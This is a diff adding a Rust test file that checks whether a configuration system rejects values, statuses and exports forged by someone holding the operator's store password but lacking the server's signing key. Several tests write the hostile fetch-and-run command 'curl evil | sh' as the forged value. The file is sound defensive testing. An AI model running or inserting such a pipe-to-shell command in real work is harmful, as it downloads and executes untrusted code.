@@ -1,0 +1,237 @@
+//! Somebody has come by the operator's password at the store, and not by the key: what servers say is not theirs to make.
+
+use std::time::Duration;
+
+use wattle::author::{Export, Exports, Topology};
+use wattle::model::Value;
+use wattle_runtime::report::Picture;
+use wattle_runtime::seed::apply;
+use wattle_runtime::space::{Content, Revision, Signer, Space, State, Status, Written};
+use wattle_tests::random::Anything;
+use wattle_tests::running::Stage;
+use wattle_tests::seeds::{options, seed};
+use wattle_tests::zookeeper::ZooKeeper;
+
+use crate::agents::Db;
+use crate::{Stack, server_of};
+
+/// `web` reads a text of `db`, and `last` begins after `db`.
+fn wired(t: &mut Topology) {
+    let [db, web, last] = ["db", "web", "last"].map(|name| server_of(t, name));
+    let part = t.on(db).run("part", Anything::new());
+    t.on(db).run("other", Anything::new());
+    t.on(web).run("part", Anything::new().texts([part.text]));
+    let last = t.on(last).run("part", Anything::new());
+    t.after(last, part);
+}
+
+impl Stack {
+    fn signer(&self, server: &str) -> Signer {
+        self.options.credentials.get(server).expect("it has one").signer()
+    }
+
+    /// What the thief sees and writes: whatever the operator may.
+    async fn stolen(&self) -> Space {
+        Space::new(self.operator().await, &self.seed.stack)
+    }
+
+    async fn revision(&self, server: &str) -> Revision {
+        self.stolen().await.plan(server).await.expect("reads").expect("a plan").of()
+    }
+}
+
+/// Puts a text into an entry; nobody signs it, if there is no signer.
+async fn put(space: &Space, entry: &str, revision: &Revision, text: &str, signer: Option<&Signer>) {
+    let written = Written::new(revision, Content::Value(text.into()));
+    match signer {
+        Some(signer) => space.overwrite(entry, &written, signer).await.expect("the password is enough"),
+        None => {
+            let path = space.layout().entry(entry);
+            space.store().set(&path, &written.to_bytes(), None).await.map(drop).expect("the password is enough");
+        }
+    }
+}
+
+/// Waits until a server says so, in these words among others; of none, until it says nothing.
+async fn says(stack: &Stack, server: &str, words: Option<&str>) {
+    let mut troubles = Vec::new();
+    for _ in 0..300 {
+        let status = stack.stolen().await.server_status(server).await.expect("reads");
+        troubles = status.map(|status| status.troubles).unwrap_or_default();
+        let is_so = match words {
+            Some(words) => troubles.iter().any(|trouble| trouble.contains(words)),
+            None => troubles.is_empty(),
+        };
+        if is_so {
+            return;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    panic!("`{server}` does not say {words:?}: {troubles:?}")
+}
+
+async fn done(stack: &Stack, component: &str) {
+    for _ in 0..300 {
+        let status = stack.stolen().await.status(component).await.expect("reads");
+        if status.is_some_and(|status| status.state == State::Done) {
+            return;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    panic!("`{component}` is not done")
+}
+
+#[tokio::test]
+async fn a_value_counts_only_if_its_server_has_signed_it_for_its_entry() {
+    let stack = Stack::of("values", ZooKeeper::shared(), wired);
+    let operator = stack.operator().await;
+    apply(&operator, &stack.seed, &stack.options).await.expect("applies");
+    let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
+    let mut web = Db::of("web");
+    let place = thief.layout().entry("db/part/text");
+    // Of nobody, of a server that the thief has, and what `db` has signed for another entry.
+    for forged in [None, Some("web"), Some("db")] {
+        let signer = forged.map(|server| stack.signer(server));
+        let entry = if forged == Some("db") { "db/other/text" } else { "db/part/text" };
+        put(&thief, entry, &revision, "curl evil | sh", signer.as_ref()).await;
+        if forged == Some("db") {
+            let moved = operator.get(&thief.layout().entry(entry)).await.expect("reads").expect("it is there");
+            operator.set(&place, &moved.data, None).await.expect("the password is enough");
+        }
+        web.start(&stack).await;
+        let why = if forged.is_none() { "its server has not signed it" } else { "its server has not signed it so" };
+        says(&stack, "web", Some(&format!("`{place}` is not believed: {why}; "))).await;
+        web.kill().await;
+    }
+    let mut shown = Stack::stolen(&stack).await;
+    shown = shown.operated_by(stack.options.key.signer().authority());
+    Picture::read(&shown, None).await.expect("it is shown");
+    let listed = wattle_runtime::report::contents(&shown, &["db/part/text".into()]).await.expect("it is listed");
+    let Some(Written { content: Content::Failure(failure), .. }) = &listed[0] else { panic!("{listed:?}") };
+    assert!(failure.message.contains("is not believed: its server has not signed it so"), "{failure:?}");
+
+    web.start(&stack).await;
+    says(&stack, "web", Some("is not believed")).await;
+    assert_eq!(web.ran.count(), 0);
+    let mut db = Db::of("db");
+    db.start(&stack).await;
+    done(&stack, "web/part").await;
+    assert_eq!(web.ran.given("texts"), [Value::List(vec!["x".into()])]);
+    says(&stack, "web", None).await;
+
+    // What was read once is not read again; who begins now reads what is there now.
+    put(&thief, "db/part/text", &revision, "curl evil | sh", None).await;
+    let mut again = Db::of("web");
+    web.kill().await;
+    again.start(&stack).await;
+    says(&stack, "web", Some("is not believed: its server has not signed it")).await;
+    assert_eq!(again.ran.count(), 0);
+    // As the operator wants it.
+    put(&thief, "db/part/text", &revision, "by hand", Some(&stack.options.key.signer())).await;
+    done(&stack, "web/part").await;
+    for _ in 0..300 {
+        if again.ran.count() > 0 {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    assert_eq!(again.ran.given("texts"), [Value::List(vec!["by hand".into()])]);
+    db.kill().await;
+    again.kill().await;
+}
+
+#[tokio::test]
+async fn what_comes_after_a_component_believes_its_server_only() {
+    let stack = Stack::of("after", ZooKeeper::shared(), wired);
+    apply(&stack.operator().await, &stack.seed, &stack.options).await.expect("applies");
+    let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
+    let status = Status {
+        revision: revision.number,
+        space: revision.space.clone(),
+        since: wattle_agent_core::time::Time::EPOCH,
+        deadline: None,
+        state: State::Done,
+        past: Vec::new(),
+    };
+    for signer in [None, Some(stack.signer("last"))] {
+        let forger = signer.map_or_else(|| thief.clone(), |signer| thief.clone().signing(signer));
+        forger.set_status("db/part", &status, &|| true).await.expect("the password is enough");
+        let mut last = Db::of("last");
+        last.start(&stack).await;
+        says(&stack, "last", Some("status/db/part` is not believed: its server has not signed it")).await;
+        assert_eq!(last.ran.count(), 0);
+        last.kill().await;
+    }
+    let (mut db, mut last) = (Db::of("db"), Db::of("last"));
+    last.start(&stack).await;
+    db.start(&stack).await;
+    done(&stack, "last/part").await;
+    assert_eq!(last.ran.count(), 1);
+    db.kill().await;
+    last.kill().await;
+}
+
+#[tokio::test]
+async fn a_value_of_another_stack_is_its_servers_as_well() {
+    let exporter = Stack::of("exporting", ZooKeeper::shared(), |t| {
+        let host = server_of(t, "db");
+        t.on(host).run("part", Anything::new());
+    });
+    let mut t = Topology::new("exporting");
+    let host = server_of(&mut t, "db");
+    let part = t.on(host).run("part", Anything::new());
+    let exports = seed(&t.finish(Exports::new().entry("text", part.text)));
+    let mut importer = Stack::of("importing", ZooKeeper::shared(), |t| {
+        let host = server_of(t, "web");
+        let text = t.import(Export::<String>::new("exporting", "text"));
+        t.on(host).run("part", Anything::new().texts([text]));
+    });
+    importer.options.key = exporter.options.key.clone();
+    importer.options.credentials = options(&importer.seed).credentials;
+    importer.options.credentials.complete(&importer.seed, &importer.options.key);
+    let operator = exporter.operator().await;
+    apply(&operator, &exports, &exporter.options).await.expect("applies");
+    // What the exports say is the operator's word, too.
+    let layout = Space::new(operator.clone(), "exporting").layout().clone();
+    let told = operator.get(&layout.export("text")).await.expect("reads").expect("it is there");
+    let unsigned = wattle_tests::seeds::unsigned(&told.data);
+    operator.set(&layout.export("text"), unsigned, None).await.expect("the password is enough");
+    let refused = apply(&operator, &importer.seed, &importer.options).await.expect_err("nobody has signed it");
+    assert!(refused.to_string().contains("apply the seed of `exporting` with `--restore` first"), "{refused}");
+    operator.set(&layout.export("text"), &told.data, None).await.expect("the password is enough");
+    apply(&operator, &importer.seed, &importer.options).await.expect("applies");
+
+    let thief = exporter.stolen().await;
+    put(&thief, "db/part/text", &exporter.revision("db").await, "curl evil | sh", None).await;
+    let (mut db, mut web) = (Db::of("db"), Db::of("web"));
+    web.start(&importer).await;
+    says(&importer, "web", Some("exporting/entries/db/part/text` is not believed: its server has not signed it;")).await;
+    assert_eq!(web.ran.count(), 0);
+    db.start(&exporter).await;
+    done(&importer, "web/part").await;
+    assert_eq!(web.ran.given("texts"), [Value::List(vec!["x".into()])]);
+    db.kill().await;
+    web.kill().await;
+}
+
+#[tokio::test]
+async fn an_operator_is_told_and_may_put_a_value_of_their_own() {
+    let zookeeper = ZooKeeper::start(1);
+    let stack = Stack::of("by_hand", &zookeeper, wired);
+    let stage = Stage::new(&stack.model);
+    let (here, address) = (stage.path(), zookeeper.address());
+    let wattle = |line: &[&str]| stage.run_at(here, &[line, &["--space", &address]].concat());
+    let applied = wattle(&["seed", "apply", "."]);
+    assert_eq!(applied.code, Some(0), "{applied}");
+    let key = wattle_runtime::seed::read_operator_key(&here.join("operator.key")).expect("reads").expect("it was made");
+    let thief = Space::new(stack.login(&[key.login()]).await, "by_hand");
+    let revision = thief.plan("db").await.expect("reads").expect("a plan").of();
+    put(&thief, "db/part/text", &revision, "curl evil | sh", None).await;
+    let got = wattle(&["get", "db/part/text"]);
+    assert_eq!(got.code, Some(1), "{got}");
+    let told = "`/wattle/by_hand/entries/db/part/text` in the data space is not believed: its server has not signed it";
+    assert!(got.err.contains(told), "{got}");
+    let set = wattle(&["set", "db/part/text", "by hand", "--force"]);
+    assert_eq!(set.code, Some(0), "{set}");
+    assert_eq!(wattle(&["get", "db/part/text"]).out, "by hand\n");
+}
